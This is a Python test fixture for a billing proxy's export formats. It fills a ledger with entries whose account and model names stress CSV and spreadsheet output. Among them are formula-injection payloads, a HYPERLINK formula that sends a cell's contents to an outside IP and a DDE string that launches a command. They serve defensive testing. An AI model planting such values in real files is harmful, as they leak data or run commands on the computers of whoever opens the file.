"""A month of everything that a file must bear: names that are formulas, every usage type, entries of other months."""

import io
import random
from collections.abc import Mapping

from proxy.billing.exports.formats import FORMATS
from proxy.billing.exports.request import ExportRequest, Written
from proxy.core.catalogue import Tier
from proxy.core.entries import Entry, Outcome
from proxy.core.invoicing.terms import InvoicingTerms
from proxy.core.money import PICO_PER_EURO
from proxy.core.usage import Source, TariffClass, UsageType
from proxy.ledger.accounts import Accounts
from proxy.ledger.database import Database
from proxy.ledger.store import Ledger
from tests.ledger.support import charge, entry

MONTH = "2026-11"
MADE_MS = 1_796_110_200_000  # 2026-12-01 08:30 in Paris
NAMES = (
    "acme",
    "Société d’Été ☀ 株式会社",
    '=HYPERLINK("http://198.51.100.7/?"&A1,"x")',
    "'=1+1",
    "@SUM(A1)",
    "-2+3",
    "+33 1 23",
    "＝1+1",
    'semi;colon, and "quotes"',
)
TIERS = {
    "tier1": Tier("tier1", "Tier 1", None, 200 * PICO_PER_EURO, None, None),
    "tier2": Tier("tier2", "Tier 2", None, None, None, None),
}
TYPES = tuple(UsageType)


async def fill(database: Database, each: int = 7) -> tuple[dict[str, str], list[Entry]]:
    """Make accounts with entries; return names by account id, and the month's entries in the order of an export."""
    names = {(await Accounts(database).create(name, "tier1")).id: name for name in NAMES}
    names["acc_of_nobody"] = "acc_of_nobody"  # entries outlive everything
    rng = random.Random(7)
    made = [_entry(rng, account_id, number) for account_id in names for number in range(each)]
    made.append(entry(account_id="acc_of_nobody", used=()))
    made.append(entry(account_id="acc_of_nobody", used=((UsageType.OUTPUT, 0),)))
    others = [entry(account_id=account_id, month="2026-10", day="2026-10-31") for account_id in names]
    rng.shuffle(made)
    await Ledger(database).insert([*made, *others])
    return names, sorted(made, key=lambda one: (one.account_id, one.call_id))


def _entry(rng: random.Random, account_id: str, number: int) -> Entry:
    used = [(kind, rng.randrange(1, 5000)) for kind in rng.sample(TYPES, rng.randrange(1, 4))]
    day = rng.randrange(1, 31)
    at_ms = 1_793_487_600_000 + (day - 1) * 86_400_000 + rng.randrange(86_400_000)
    return entry(
        f"019ab000-0000-7000-8000-{rng.getrandbits(48):012x}",  # in no order
        account_id=account_id,
        day=f"{MONTH}-{day:02d}",
        model=rng.choice(["gpt-oss:120b", "=cmd|' /C calc'!A0", "whisper-large-v3"]),
        tariff_class=rng.choice(list(TariffClass)),
        outcome=rng.choice(list(Outcome)),
        admitted_ms=at_ms,
        settled_ms=at_ms + rng.randrange(60_000),
        streamed=bool(number % 2),
        upstream=rng.choice(["", "vllm-1"]),
        charge=charge(*used, source=rng.choice(list(Source)), version=rng.choice(["2026-01", "2026-11"])),
    )


def request(database: Database, account_id: str | None = None, **changes: object) -> ExportRequest:
    """Return what is asked of a format."""
    given: Mapping[str, object] = {"tiers": TIERS, "seller": None, "invoicing": InvoicingTerms(), "made_ms": MADE_MS}
    return ExportRequest(database, MONTH, account_id, **{**given, **changes})


async def export(database: Database, name: str, account_id: str | None = None, **changes: object) -> bytes:
    """Return a whole file."""
    out = io.BytesIO()
    written = await FORMATS[name].write(request(database, account_id, **changes), out)
    assert isinstance(written, Written)
    return out.getvalue()


def total_pico(entries: list[Entry]) -> int:
    return sum(one.charge.total_pico for one in entries)


def used(one: Entry) -> dict[UsageType, tuple[int, str, int]]:
    """Return quantity, source and cost by type."""
    return {line.usage_type: (line.amount, line.source.value, line.cost_pico) for line in one.charge.lines}
